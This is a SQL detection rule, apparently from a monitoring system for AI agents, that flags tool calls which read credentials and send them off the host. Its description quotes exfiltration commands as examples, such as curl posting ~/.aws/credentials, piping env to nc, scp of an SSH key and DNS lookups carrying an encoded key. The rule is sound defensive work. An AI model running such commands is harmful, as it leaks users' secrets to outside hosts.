-- id: ac1-credential-exfil
-- rev: 1
-- title: Tool call reads credentials and sends them off the host
-- severity: critical
-- attack_class: AC-1
-- attack: [T1552.001, T1048, T1041, T1567]
-- false_positives:
--   - The user asked the agent to upload a credential somewhere on purpose (e.g. to a secrets manager's
--     API); the evidence names the read and the destination.
--   - A secret variable in the URL or body of a request to an API that takes keys that way
--     (`?key=$MAPS_API_KEY`) whose host is not allowlisted (high; add the API's host to the allowlist).
-- description: >
--   One response tool call both reads a secret (a credential store, a `.env` file, the environment or a
--   secret variable) and sends data over the network: `curl -d @~/.aws/credentials`, `cat … | curl -T -`,
--   `env | nc host port`, `scp ~/.ssh/id_rsa host:`, a DNS lookup of `$(cat key | base64)`.host, or
--   code that opens the file and posts it: critical. A secret environment variable placed in a request's
--   URL or body (`curl "https://x/?k=$OPENAI_API_KEY"`) to a host outside the allowlist: high (in an
--   Authorization header it is how APIs authenticate and is not counted). Credential read plus upload is
--   an execution indicator: the secret leaves the moment the agent runs the call.
SELECT any_value(i.ts) AS ts, any_value(i.host_id) AS host_id, i.pid, i.flow_uid, i.exchange_id, i.router,
       any_value(i.dedup) AS dedup,
       CASE WHEN bool_or(i.kind = 'credential_exfil') THEN 'critical' ELSE 'high' END AS severity,
       json_object('tool_call_idx', i.idx, 'tool', i.tool, 'detail', any_value(i.detail), 'kinds', list(DISTINCT i.kind),
                   'hosts', list(DISTINCT i.host) FILTER (WHERE i.host IS NOT NULL),
                   'reads', (SELECT list(DISTINCT r.kind || ' ' || r.detail) FROM tool_call_indicators r
                             WHERE r.exchange_id = i.exchange_id AND r.idx = i.idx
                               AND r.kind IN ('credential_read', 'env_file_read', 'env_dump'))) AS evidence,
       format('credential exfiltration in tool call {} of exchange {} from {} (to {})', i.tool, i.exchange_id,
              coalesce(i.router, i.exchange_host), coalesce(any_value(i.host), 'an unnamed host')) AS summary
FROM rw_response_indicators i  -- the engine's view: indicators of new tool calls in responses
WHERE (i.kind = 'credential_exfil' AND coalesce(i.context, 'command') = 'command') OR (i.kind = 'secret_sent' AND i.execution)
GROUP BY i.call_ts, i.exchange_ts, i.call_host_id, i.exchange_host_id, i.pid, i.flow_uid, i.exchange_id, i.idx,
         i.tool, i.router, i.exchange_host
